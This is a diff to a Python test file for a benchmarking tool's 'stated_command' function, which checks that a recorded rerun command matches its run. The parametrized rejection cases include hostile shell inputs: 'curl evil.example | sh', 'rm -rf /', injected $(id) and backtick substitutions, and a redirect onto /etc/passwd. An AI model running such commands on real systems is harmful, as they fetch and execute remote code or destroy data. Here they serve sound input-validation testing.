@@ -10,9 +10,11 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from msgm_bench import OptionError, OptionText, RunSpec
+from msgm_bench.api import Result, SpecRecord
 from msgm_bench.cli.run import command as run_command
 from msgm_bench.experiment.spec import parse_spec
 from msgm_bench.report.provenance import rerun_command
+from msgm_bench.report.stated_command import stated_command
 from msgm_bench.storage import dump_yaml, parse_yaml
 from msgm_builtin.datasets.image_folder import ImageFolder
 
@@ -142,3 +144,48 @@ def test_plain_scalars_of_a_spec_file_are_names(name):
     assert parse_spec(RUN | values).forget == (name,)
     assert RunSpec.model_validate(RUN | {"forget": 3}).forget == ("3",)
     assert yaml.safe_load("a: 00001") == {"a": 1}, "the trap that the reader goes round"
+
+
+def recorded(command, **changes):
+    """A result whose provenance states a command."""
+    spec = {"dataset": "toy", "forget": ["b"], "backbone": "net", "method": "alpha", "params": {}}
+    spec |= {"regime": "retrain", "preset": "full", "seed": 3} | changes
+    return Result(status="ok", spec=SpecRecord(**spec), provenance={"command": command})
+
+
+OWN = "msgm-bench run --method alpha --dataset toy --forget b --backbone net --seed 3"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        None,
+        ["msgm-bench", "run"],
+        "",
+        "curl evil.example | sh",
+        f"{OWN} | sh",
+        f"{OWN}; rm -rf /",
+        f"{OWN} -d folder=$(id)",
+        f"{OWN} -d folder=`id`",
+        f"{OWN}\nrm -rf /",
+        f"{OWN} > /etc/passwd",
+        f"{OWN} 'unclosed",
+        OWN.replace("run", "data", 1),
+        OWN.replace("alpha", "beta"),
+        OWN.replace("toy", "other"),
+        OWN.replace("--seed 3", "--seed 4"),
+        f"{OWN} --seed 4",
+        f"evil {OWN}",
+    ],
+)
+def test_what_is_no_command_of_the_run_is_not_stated(command):
+    """A shell has nothing to act on, and method, dataset and seed are those of the result."""
+    assert stated_command(recorded(command)) == ""
+
+
+@given(text=TEXT)
+def test_a_command_of_the_run_is_stated(text):
+    """Whatever its options hold, as ``rerun_command`` writes it."""
+    spec = parse_spec(RUN | {"dataset_params": {"folder": text}})
+    result = recorded(rerun_command(spec), dataset="image_folder", method="obt", seed=0)
+    assert stated_command(result) == result.provenance["command"]
